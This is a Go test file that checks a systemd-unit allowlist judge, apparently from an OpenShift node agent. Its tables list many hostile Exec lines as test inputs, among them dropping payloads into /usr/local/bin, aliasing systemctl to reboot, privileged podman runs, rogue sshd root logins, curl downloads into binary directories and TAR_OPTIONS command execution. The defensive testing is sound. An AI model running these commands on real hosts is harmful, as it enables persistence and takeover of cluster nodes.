package allowlist_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openshift/refresh-agent/allowlist"
)

// strictUnit judges a unit's [Service] lines (KEY=VALUE, Exec*= split as systemd splits them) as the
// plan does for a unit the payload changes: changed says whether its Exec lines are the payload's.
func strictUnit(t *testing.T, changed bool, lines ...string) error {
	t.Helper()
	return allowlist.JudgeUnit(unitOfLines(t, changed, lines...))
}

// ownUnit judges the lines as changed ones of a unit whose current definition already runs the same
// programs (Execution.Programs: OwnPrograms of the lines): the payload changed only their arguments,
// judged by every argument rule.
func ownUnit(t *testing.T, lines ...string) error {
	t.Helper()
	p := unitOfLines(t, true, lines...)
	p.Programs = allowlist.OwnPrograms(p.Exec)
	return allowlist.JudgeUnit(p)
}

// sameUnit judges the lines as changed ones of a unit whose current definition already runs them:
// its own programs (OwnPrograms) and the paths they mutate (OwnWrites), with changed arguments.
func sameUnit(t *testing.T, lines ...string) error {
	t.Helper()
	p := unitOfLines(t, true, lines...)
	p.Programs = allowlist.OwnPrograms(p.Exec)
	p.OwnWrites = allowlist.OwnWrites(p)
	p.OwnSecrets = allowlist.OwnSecrets(p)
	return allowlist.JudgeUnit(p)
}

// runsUnmodeled says whether the lines run a program a test names as unmodeled (myapp, oc, modprobe).
func runsUnmodeled(lines []string) bool {
	for _, l := range lines {
		for _, p := range []string{"/usr/bin/myapp", "/usr/bin/oc ", "/usr/sbin/modprobe"} {
			if strings.Contains(l, p) {
				return true
			}
		}
	}
	return false
}

func unitOfLines(t *testing.T, changed bool, lines ...string) allowlist.UnitProps {
	t.Helper()
	p := allowlist.UnitProps{ID: "myapp.service", Names: []string{"myapp.service"}, DefaultDependencies: true}
	for _, l := range lines {
		k, v, ok := strings.Cut(l, "=")
		require.True(t, ok, l)
		switch {
		case strings.HasPrefix(k, "Exec"):
			argvs, err := allowlist.SplitExec(v)
			require.NoError(t, err, l)
			for _, a := range argvs {
				p.Exec = append(p.Exec, a)
				p.ExecKeys = append(p.ExecKeys, k)
				p.ExecChanged = append(p.ExecChanged, changed)
			}
		case k == "Environment":
			p.Environment = append(p.Environment, v)
		case k == "UnsetEnvironment":
			p.UnsetEnvironment = append(p.UnsetEnvironment, strings.Fields(v)...) // as the plan reads it
		case k == "WorkingDirectory":
			p.WorkingDirectory = v
		default:
			t.Fatalf("key %s not modelled by the test", k)
		}
	}
	return p
}

// A changed Exec line is the ConfigMap's: it runs programs and hands script files to interpreters
// only from read-only OS content, at every depth, and runs no container or machine image. Every
// round-4 reproducer (adv core-attack4 r2, r4) and the variants an adversary would try next are
// refused, naming the key and the path; ordinary changed lines stay accepted.
func TestChangedLinesRunOnlyReadOnlyOSContent(t *testing.T) {
	refused := []struct {
		name  string
		lines []string
		why   string // a part of the reason
	}{
		// r2-exec-bypass.sh
		{"cp payload file into /usr/local/bin and run it", []string{`ExecStart=/usr/bin/sh -c 'cp /etc/myapp/app.conf /usr/local/bin/ok; chmod +x /usr/local/bin/ok; /usr/local/bin/ok'`}, "/usr/local/bin/ok"},
		{"cp into libexec and sh it", []string{`ExecStart=/usr/bin/sh -c 'cp /etc/myapp/app.conf /usr/local/libexec/ok && sh /usr/local/libexec/ok'`}, "/usr/local/libexec/ok"},
		{"cp systemctl under another name", []string{`ExecStart=/usr/bin/sh -c 'cp /usr/bin/systemctl /usr/local/bin/ok && /usr/local/bin/ok reboot'`}, "/usr/local/bin/ok"},
		{"ln systemctl into /tmp", []string{`ExecStart=/usr/bin/sh -c 'ln -sf /usr/bin/systemctl /tmp/ok; /tmp/ok reboot'`}, "/tmp/ok"},
		{"ExecStartPre links, ExecStart runs", []string{`ExecStartPre=/usr/bin/ln -sf /usr/bin/systemctl /usr/local/bin/ok`, `ExecStart=/usr/local/bin/ok reboot`}, "ExecStartPre="},
		// r4-mount-payload-code.sh
		{"nspawn a payload image", []string{`ExecStart=/usr/bin/systemd-nspawn --image=/etc/myapp/app.conf`}, "/etc/myapp/app.conf"},
		{"podman run with the payload file as a volume", []string{`ExecStart=/usr/bin/podman run --rm -v /etc/myapp/app.conf:/x:z --privileged --pid=host registry.access.redhat.com/ubi9 sh /x`}, "podman run"},
		{"login shell with HOME on the payload", []string{"Environment=HOME=/etc/myapp", `ExecStart=/usr/bin/bash -lc 'sleep 1'`}, "Environment=HOME= (a value of 10 bytes"},
		{"login shell with HOME on the payload, by path", []string{"Environment=HOME=/etc/myapp", `ExecStart=/usr/bin/bash -lc '/usr/bin/sleep 1'`}, "Environment=HOME= (a value of 10 bytes"},
		// variants
		{"cp -t DIR", []string{`ExecStart=/usr/bin/cp -t /usr/local/bin /etc/myapp/app.conf`}, "/usr/local/bin"},
		{"cp --target-directory=", []string{`ExecStart=/usr/bin/cp --target-directory=/usr/local/sbin /etc/myapp/app.conf`}, "/usr/local/sbin"},
		{"install -D", []string{`ExecStart=/usr/bin/install -D -m 0755 /etc/myapp/app.conf /usr/local/bin/ok`}, "/usr/local/bin/ok"},
		{"ln -s through a relative path", []string{`ExecStart=/bin/sh -c 'cd /usr/local/bin && ln -s /etc/myapp/app.conf ok'`}, "/usr/local/bin"},
		{"relative write from WorkingDirectory", []string{"WorkingDirectory=/usr/local/bin", `ExecStart=/usr/bin/cp /etc/myapp/app.conf ok`}, "/usr/local/bin/ok"},
		{"cat > /usr/local/bin/y", []string{`ExecStart=/bin/sh -c 'cat /etc/myapp/app.conf > /usr/local/bin/y'`}, "/usr/local/bin/y"},
		{"tee", []string{`ExecStart=/bin/sh -c '/usr/bin/tee /usr/local/bin/y < /etc/myapp/app.conf'`}, "/usr/local/bin/y"},
		{"dd of=", []string{`ExecStart=/usr/bin/dd if=/etc/myapp/app.conf of=/usr/local/bin/y`}, "/usr/local/bin/y"},
		{"mv", []string{`ExecStart=/usr/bin/mv /etc/myapp/app.conf /usr/local/bin/y`}, "/usr/local/bin/y"},
		{"RHCOS's /var/usrlocal", []string{`ExecStart=/usr/bin/cp /etc/myapp/app.conf /var/usrlocal/bin/y`}, "/usr/local/bin/y"},
		{"cp into the dir above", []string{`ExecStart=/usr/bin/cp -r /etc/myapp/bin /usr/local/`}, "/usr/local"},
		{"cp a dir's contents above", []string{`ExecStart=/usr/bin/cp -r /etc/myapp/. /var/usrlocal`}, "/usr/local"},
		{"tar -C above the node's code", []string{`ExecStart=/usr/bin/tar -xf /etc/myapp/a.tar -C /usr/local`}, "/usr/local"},
		{"curl -o", []string{`ExecStart=/usr/bin/curl -o /usr/local/bin/y https://example.com/y`}, "/usr/local/bin/y"},
		{"link a dir to the node's code", []string{`ExecStart=/bin/sh -c '/usr/bin/ln -s /usr/local/bin /run/l; /usr/bin/cp /etc/myapp/app.conf /run/l/x'`}, "/usr/local/bin"},
		{"bind over the node's code", []string{`ExecStart=/usr/bin/mount --bind /etc/myapp/app.conf /var/usrlocal/bin/kubenswrapper`}, "/var/usrlocal/bin/kubenswrapper"},
		{"sh -c '$0' FILE", []string{`ExecStart=/bin/sh -c '$0' /tmp/x`}, "$0"},
		{"bash /var/tmp/x", []string{`ExecStart=/usr/bin/bash /var/tmp/x`}, "/var/tmp/x"},
		{"python3 /etc/x.py", []string{`ExecStart=/usr/bin/python3 /etc/x.py`}, "/etc/x.py"},
		{". /etc/x", []string{`ExecStart=/bin/sh -c '. /etc/x'`}, ". /etc/x"},
		{"env /tmp/x", []string{`ExecStart=/usr/bin/env /tmp/x`}, "/tmp/x"},
		{"nice /tmp/x", []string{`ExecStart=/usr/bin/nice -n 5 /tmp/x`}, "/tmp/x"},
		{"xargs", []string{`ExecStart=/bin/sh -c '/usr/bin/xargs -0 /tmp/x < /etc/myapp/list'`}, "/tmp/x"},
		{"find -exec", []string{`ExecStart=/usr/bin/find /etc/myapp -name app.conf -exec /tmp/x {} ;`}, "/tmp/x"},
		{"exec /tmp/x", []string{`ExecStart=/bin/sh -c 'exec /tmp/x'`}, "/tmp/x"},
		{"command /tmp/x", []string{`ExecStart=/bin/sh -c 'command /tmp/x'`}, "/tmp/x"},
		{"su -c a script", []string{`ExecStart=/usr/bin/su -c '/etc/myapp/app.conf --now' root`}, "/etc/myapp/app.conf"},
		{"start-stop-daemon --exec", []string{`ExecStart=/usr/sbin/start-stop-daemon --start --exec /tmp/x`}, "/tmp/x"},
		{"su -c a payload file", []string{`ExecStart=/usr/sbin/runuser -u root -- /etc/myapp/app.conf`}, "/etc/myapp/app.conf"},
		{"a relative path", []string{`ExecStart=/bin/sh -c 'cd /etc/myapp && ./app.conf'`}, "./app.conf"},
		{"awk -f a payload file", []string{`ExecStart=/usr/bin/awk -f /etc/myapp/app.awk /etc/hostname`}, "/etc/myapp/app.awk"},
		{"bash --rcfile", []string{`ExecStart=/usr/bin/bash --rcfile /etc/myapp/rc -c 'true'`}, "/etc/myapp/rc"},
		{"chroot into the payload", []string{`ExecStart=/usr/sbin/chroot /etc/myapp /usr/bin/sh`}, "chroot /etc/myapp"},
		{"unshare --root", []string{`ExecStart=/usr/bin/unshare --root=/etc/myapp /usr/bin/sh`}, "/etc/myapp"},
		{"bwrap binds", []string{`ExecStart=/usr/bin/bwrap --bind /etc/myapp /usr/bin /usr/bin/true`}, "bwrap"},
		{"xargs -a F env", []string{`ExecStart=/usr/bin/xargs -a /etc/myapp/app.conf env`}, "xargs hands"},
		{"xargs -a F nice", []string{`ExecStart=/usr/bin/xargs --arg-file=/etc/myapp/app.conf timeout 9`}, "xargs hands"},
		{"cat F | xargs nice", []string{`ExecStart=/bin/sh -c 'cat /etc/myapp/app.conf | xargs nice'`}, "xargs hands"},
		{"xargs env < F", []string{`ExecStart=/bin/sh -c 'xargs env < /etc/myapp/app.conf'`}, "xargs hands"},
		{"flock xargs env", []string{`ExecStart=/usr/bin/flock /run/myapp/l xargs -a /etc/myapp/app.conf env`}, "xargs hands"},
		{"xargs -I{} env {}", []string{`ExecStart=/usr/bin/xargs -a /etc/myapp/app.conf -I{} env {}`}, "xargs"},
		{"logger -u to the notify socket by a glob", []string{`ExecStart=/bin/sh -c 'exec logger -d -u /run/systemd/notif? "$(printf "x\\nMAINPID=%s" "$(pidof kubelet)")"'`}, "notification socket"},
		{"logger -u any socket", []string{`ExecStart=/usr/bin/logger -d -u /run/myapp/s hello`}, "logger -u"},
		{"m4 a payload file", []string{`ExecStart=/usr/bin/m4 /etc/myapp/app.conf`}, "m4"},
		{"sqlite3 -init", []string{`ExecStart=/usr/bin/sqlite3 -init /etc/myapp/app.conf :memory:`}, "sqlite3"},
		{"sqlite3 .read", []string{`ExecStart=/usr/bin/sqlite3 :memory: '.read /etc/myapp/app.conf'`}, ".read"},
		{"platform-python", []string{`ExecStart=/usr/libexec/platform-python /etc/myapp/app.conf`}, "/etc/myapp/app.conf"},
		{"bpftrace", []string{`ExecStart=/usr/bin/bpftrace --unsafe /etc/myapp/app.conf`}, "bpftrace"},
		{"stap", []string{`ExecStart=/usr/bin/stap /etc/myapp/app.conf`}, "stap"},
		{"sshd -f", []string{`ExecStart=/usr/sbin/sshd -D -f /etc/myapp/app.conf -p 2222`}, "sshd"},
		{"sshd -o", []string{`ExecStart=/usr/sbin/sshd -D -o AuthorizedKeysFile=/etc/myapp/app.conf -o PermitRootLogin=yes -p 2222`}, "sshd"},
		{"dbus-daemon --config-file", []string{`ExecStart=/usr/bin/dbus-daemon --config-file=/etc/myapp/app.conf`}, "dbus-daemon"},
		{"@ argv0 picks a multi-call applet", []string{`ExecStart=@/usr/bin/kmod insmod /etc/myapp/app.conf`}, "insmod"},
		{"@ argv0 modprobe -C", []string{`ExecStart=@/usr/bin/kmod modprobe -C /etc/myapp/app.conf dummy`}, "modprobe"},
		{"TAR_OPTIONS", []string{`Environment=TAR_OPTIONS=--checkpoint=1 --checkpoint-action=exec=sh`, `ExecStart=/usr/bin/tar -tf /run/myapp/a.tar`}, "TAR_OPTIONS"},
		{"RSYNC_RSH", []string{`Environment=RSYNC_RSH=sh /etc/myapp/app.conf`, `ExecStart=/usr/bin/rsync -aL --no-perms /etc/hostname /run/myapp/`}, "RSYNC_RSH"},
		{"MODPROBE_OPTIONS", []string{`Environment=MODPROBE_OPTIONS=-C /etc/myapp/app.conf`, `ExecStart=/usr/sbin/modprobe dummy`}, "MODPROBE_OPTIONS"},
		{"podman exec", []string{`ExecStart=/usr/bin/podman exec myapp sh -c true`}, "podman exec"},
		{"podman create", []string{`ExecStart=/usr/bin/podman --log-level=info create --name x quay.io/x`}, "podman create"},
		{"podman container run", []string{`ExecStart=/usr/bin/podman container run quay.io/x`}, "podman run"},
		{"podman kube play", []string{`ExecStart=/usr/bin/podman kube play /etc/myapp/pod.yaml`}, "podman kube"},
		{"docker run", []string{`ExecStart=/usr/bin/docker run quay.io/x`}, "docker run"},
		{"buildah", []string{`ExecStart=/usr/bin/buildah from quay.io/x`}, "buildah from"},
		{"skopeo copy", []string{`ExecStart=/usr/bin/skopeo copy docker://quay.io/x containers-storage:x`}, "skopeo copy"},
		{"runc run", []string{`ExecStart=/usr/bin/runc run -b /etc/myapp ctr`}, "runc"},
		{"crictl runp", []string{`ExecStart=/usr/bin/crictl runp /etc/myapp/pod.json`}, "crictl runp"},
		{"systemd-dissect", []string{`ExecStart=/usr/bin/systemd-dissect --mount /etc/myapp/app.conf /mnt`}, "systemd-dissect"},
		{"importctl", []string{`ExecStart=/usr/bin/importctl import-raw /etc/myapp/app.conf x`}, "importctl"},
		{"podman behind a wrapper", []string{`ExecStart=/usr/bin/env /usr/bin/podman run quay.io/x`}, "podman run"},
		{"podman in a script", []string{`ExecStart=/bin/sh -c '/usr/bin/podman run quay.io/x'`}, "podman run"},
		{"XDG_CONFIG_HOME", []string{"Environment=XDG_CONFIG_HOME=/etc/myapp", `ExecStart=/usr/bin/myapp`}, "XDG_CONFIG_HOME"},
		{"PYTHONUSERBASE", []string{"Environment=PYTHONUSERBASE=/etc/myapp", `ExecStart=/usr/bin/myapp`}, "PYTHONUSERBASE"}, // (python3 -m is refused in a changed line: round 7b),
		{"XDG_DATA_DIRS list", []string{"Environment=XDG_DATA_DIRS=/usr/share:/etc/myapp", `ExecStart=/usr/bin/myapp`}, "Environment=XDG_DATA_DIRS="},
		{"HOME in a script", []string{`ExecStart=/bin/sh -c 'HOME=/etc/myapp /usr/bin/bash -lc true'`}, "HOME=/etc/myapp"},
		{"HOME behind env", []string{`ExecStart=/usr/bin/env HOME=/etc/myapp /usr/bin/bash -lc true`}, "HOME=/etc/myapp"},
		{"export HOME", []string{`ExecStart=/bin/sh -c 'export HOME=/etc/myapp; /usr/bin/bash -l'`}, "HOME=/etc/myapp"},
		{"KUBECONFIG", []string{"Environment=KUBECONFIG=/etc/myapp/kc", `ExecStart=/usr/bin/oc get nodes`}, "KUBECONFIG"},
		{"TMPDIR in the node's code", []string{"Environment=TMPDIR=/usr/local/bin", `ExecStart=/usr/bin/myapp`}, "TMPDIR"},
	}
	for _, c := range refused {
		t.Run(c.name, func(t *testing.T) {
			// Refused as the payload's, and as new arguments of the unit's own programs.
			for i, err := range []error{strictUnit(t, true, c.lines...), ownUnit(t, c.lines...)} {
				require.Error(t, err, "changed: %v", c.lines)
				if i == 1 || !runsUnmodeled(c.lines) {
					assert.Contains(t, err.Error(), c.why) // (the payload's unmodeled program is refused first)
				}
				assert.Regexp(t, `^(ExecStart|ExecStartPre|Environment)=`, err.Error(), "names the key")
				assert.NotContains(t, err.Error(), "\n")
			}
		})
	}

	accepted := [][]string{
		{`ExecStart=/usr/bin/touch /run/myapp/ready`},
		// A name without a path resolves through the search path: the node's /usr/local/{s,}bin
		// (which nothing a refresh judges writes) or /usr.
		{`ExecStart=myapp --config /etc/myapp/app.conf`},
		{`ExecStart=/bin/sh -c 'rm -f /run/myapp/*.pid; sleep 1; exec myapp'`},
		{`ExecStart=/usr/bin/nice myapp`},
		{`ExecStart=/bin/sh -c 'rm -f "/run/myapp/*.pid"; exec /usr/bin/myapp'`},
		{`ExecStart=/usr/bin/bash -c '/usr/bin/echo ok > /run/myapp/x'`},
		{`ExecStart=/bin/sh -c 'exec /usr/bin/myapp --config /etc/myapp/app.conf'`},
		{`ExecStart=/bin/sh -c 'echo "hello world" > /run/myapp/x; printf done; test -f /run/myapp/x || exit 1'`},
		{`ExecStart=/usr/bin/myapp --config /etc/myapp/app.conf`, `ExecReload=/bin/kill -HUP $MAINPID`},
		{`ExecStart=/usr/bin/timeout 5 /usr/bin/myapp`},
		{`ExecStart=/usr/bin/nice -n 5 /usr/bin/myapp`},
		{`ExecStart=/usr/bin/timeout -s TERM 30 /usr/bin/myapp`},
		{`ExecStart=/usr/bin/flock /run/lock/myapp.lock /usr/bin/myapp`},
		{`ExecStart=/usr/sbin/runuser -u nobody -- /usr/bin/myapp`},
		{`ExecStart=/usr/bin/env FOO=bar /usr/bin/myapp`},
		{`ExecStartPre=/usr/bin/cp /usr/share/myapp/default.conf /etc/myapp/app.conf`, `ExecStart=/usr/bin/myapp`},
		{`ExecStartPre=/usr/bin/mkdir -p /var/lib/myapp`, `ExecStart=/usr/bin/python3 /usr/lib/myapp/main.py`},
		{`ExecStop=/usr/bin/podman stop --ignore --cidfile=/run/myapp.ctr-id`, `ExecStopPost=/usr/bin/podman rm -f --ignore --cidfile=/run/myapp.ctr-id`},
		{"Environment=HOME=/root", `ExecStart=/usr/bin/bash -lc '/usr/bin/true'`},
		{"Environment=TMPDIR=/var/tmp/myapp", `ExecStart=/usr/bin/myapp`},
		{"WorkingDirectory=/var/lib/myapp", `ExecStart=/usr/bin/cp /usr/share/myapp/x ./x`},
		{`ExecStart=/usr/bin/sed -i 's/a/b/' /etc/myapp/app.conf`},
		// The node's own program dirs: denied to every policy, written by no judged command.
		{`ExecStart=/usr/bin/python3 -u /usr/local/bin/myapp.py`},
		{`ExecStart=/usr/bin/timeout 5 /usr/local/bin/kubenswrapper`},
		{`ExecStart=/usr/local/bin/kubenswrapper /usr/bin/kubelet`},
		{`ExecStart=/var/usrlocal/sbin/myapp`},
	}
	// (Changed lines of a unit whose current definition runs the same programs: a changed line runs
	// only modeled, own or granted programs, TestChangedLinesRunOnlyModeledOwnOrGrantedPrograms.)
	for _, lines := range accepted {
		assert.NoError(t, ownUnit(t, lines...), "changed: %v", lines)
	}
}

// Unchanged lines (the node's own units) stay judged as before: the MCO's kubelet runs
// /usr/local/bin/kubenswrapper, nodeip-configuration's shape runs podman (the MCO's own unit, also
// mounting /etc/systemd/system, is never acted on: UnitIdentity); only writes into the node's code
// and running a file the unit itself wrote are refused in every line.
func TestUnchangedLinesKeepTheNodesOwnPrograms(t *testing.T) {
	node := [][]string{
		{`ExecStart=/usr/bin/podman run --rm --authfile /var/lib/kubelet/config.json --net=host --security-opt label=disable --volume /run/nodeip-configuration:/run/nodeip-configuration quay.io/openshift/baremetal-runtimecfg@sha256:0 node-ip set --retry-on-failure --network-type OVNKubernetes 10.0.0.0/16`},
	}
	for _, lines := range node {
		assert.NoError(t, strictUnit(t, false, lines...), "unchanged: %v", lines)
		assert.Error(t, strictUnit(t, true, lines...), "changed: %v", lines)
	}
	// The node's own programs under /usr/local run whether the line changed or not (the MCS's
	// kubelet and node-sizing units).
	for _, lines := range [][]string{
		{`ExecStart=/usr/local/bin/kubenswrapper /usr/bin/kubelet --config=/etc/kubernetes/kubelet.conf --node-ip=${KUBELET_NODE_IP}`},
		{`ExecStart=/bin/bash /usr/local/sbin/dynamic-system-reserved-calc.sh true 1Gi`},
		{`ExecStart=/usr/bin/python3 -u /usr/local/bin/myapp.py --port 8080`},
	} {
		assert.NoError(t, strictUnit(t, false, lines...), "unchanged: %v", lines)
		assert.NoError(t, ownUnit(t, lines...), "changed, the unit's own programs: %v", lines)
	}
	// Writes into the node's code are refused whether the line changed or not.
	for _, lines := range [][]string{
		{`ExecStart=/usr/bin/sh -c 'cp /etc/myapp/app.conf /usr/local/bin/ok; chmod +x /usr/local/bin/ok; /usr/local/bin/ok'`},
		{`ExecStartPre=/usr/bin/ln -sf /usr/bin/systemctl /usr/local/bin/ok`, `ExecStart=/usr/local/bin/ok reboot`},
		{`ExecStart=/usr/bin/sh -c 'ln -sf /usr/bin/systemctl /tmp/ok; /tmp/ok reboot'`},
		{`ExecStart=/usr/bin/sh -c 'cp /usr/bin/systemctl /run/ok && /run/ok reboot'`},
		{`ExecStart=/bin/sh -c 'cat /etc/myapp/app.conf > /var/usrlocal/bin/y'`},
		{`ExecStart=/usr/bin/install -D /etc/myapp/app.conf /usr/local/libexec/y`},
		{`ExecStart=/usr/bin/cp /etc/myapp/app.conf /root/.bash_profile`},
		{`ExecStart=/bin/sh -c 'echo x >> ~/.bashrc'`},
		{`ExecStart=/bin/sh -c '/usr/bin/cp /etc/myapp/app.conf ~/.bash_profile'`},
		{`ExecStart=/usr/bin/env -C /usr/local/bin /usr/bin/cp /etc/myapp/app.conf ok`},
		{`ExecStart=/usr/bin/env --chdir=/var/usrlocal/bin /usr/bin/cp /etc/myapp/app.conf ok`},
		{`ExecStart=/usr/bin/rsync -a /etc/myapp/ /var/usrlocal/bin/`},
		{`ExecStart=/usr/bin/ln /usr/local/bin/kubenswrapper /run/h`},
		{`ExecStart=/bin/sh -c 'cd /usr/local; cp /etc/myapp/app.conf bin/ok'`},
		{`ExecStart=/usr/bin/systemd-nspawn --image=/etc/myapp/app.conf`},
		{`ExecStart=/usr/bin/podman --hooks-dir=/etc/myapp run quay.io/x`},
		{"Environment=HOME=/etc/myapp", `ExecStart=/usr/bin/bash -lc 'sleep 1'`},
	} {
		assert.Error(t, strictUnit(t, false, lines...), "unchanged: %v", lines)
	}
}

// The strict judge's new work stays within the budget: relative writes judged from every directory
// a script changed to, and writes judged against the node's code, cost a bounded amount per word.
func TestStrictExecJudgeCostIsBounded(t *testing.T) {
	max := allowlist.MaxExecWords
	rel := strings.TrimSpace(strings.Repeat("x ", max-1))
	cds := strings.Repeat("cd /run/a; ", 60)
	for line, want := range map[string]string{
		"/usr/bin/tee " + rel:                                "",
		"/bin/sh -c '" + cds + "/usr/bin/tee " + rel + "'":   "too long or too deeply wrapped",
		"/bin/sh -c '" + strings.Repeat("cd a; ", 200) + "'": "too long or too deeply wrapped",
		"/usr/bin/cp " + rel[2:] + " /run/myapp/":            "",
	} {
		// (issue 27 class 3: the relative names are written in the unit's own directory)
		err := strictUnit(t, true, "WorkingDirectory=/var/lib/myapp", "ExecStart="+line)
		if want == "" {
			assert.NoError(t, err, "%.60s", line)
		} else if assert.Error(t, err, "%.60s", line) {
			assert.Contains(t, err.Error(), want, "%.60s", line)
		}
	}
}
